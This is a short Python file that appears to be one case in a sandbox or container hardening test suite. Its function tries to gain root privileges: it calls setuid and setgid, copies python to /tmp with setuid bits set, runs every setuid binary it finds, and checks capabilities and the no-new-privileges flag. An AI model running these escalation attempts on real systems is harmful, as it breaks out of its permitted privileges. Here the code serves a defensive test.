"""E05: become somebody else: by set-user-id programs and calls

Stopped by: no-new-privileges, no capabilities, and folders mounted without set-user-id.
"""

import ctypes
import os
import shutil
import stat
import subprocess

LIBC = ctypes.CDLL(None, use_errno=True)


def attacked(numbers):
    for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
        try:
            call()
            print("GOT another user")
        except OSError:
            continue
    shutil.copy("/opt/python/bin/python3", "/tmp/python3")
    os.chmod("/tmp/python3", 0o6755)
    programs = ["/tmp/python3"]
    for top in ("/bin", "/usr/bin", "/sbin", "/usr/sbin", "/opt"):
        for folder, _, names in os.walk(top):
            paths = [os.path.join(folder, name) for name in names]
            programs += [path for path in paths if os.path.isfile(path) and os.stat(path).st_mode & stat.S_ISUID]
    for program in programs:
        arguments = (
            ["-I", "-S", "-c", "import os; print(os.geteuid())"] if program == "/tmp/python3" else ["-c", "id -u"]
        )
        done = subprocess.run([program, *arguments], capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
        if done.stdout.strip() == b"0":
            print("GOT root by", program)
    with open("/proc/self/status") as lines:
        fields = dict(line.split(":\t") for line in lines if ":\t" in line)
    if int(fields["CapEff"], 16) or int(fields["CapPrm"], 16) or fields["NoNewPrivs"].strip() != "1":
        print("GOT", fields["CapEff"], fields["NoNewPrivs"])
    return numbers
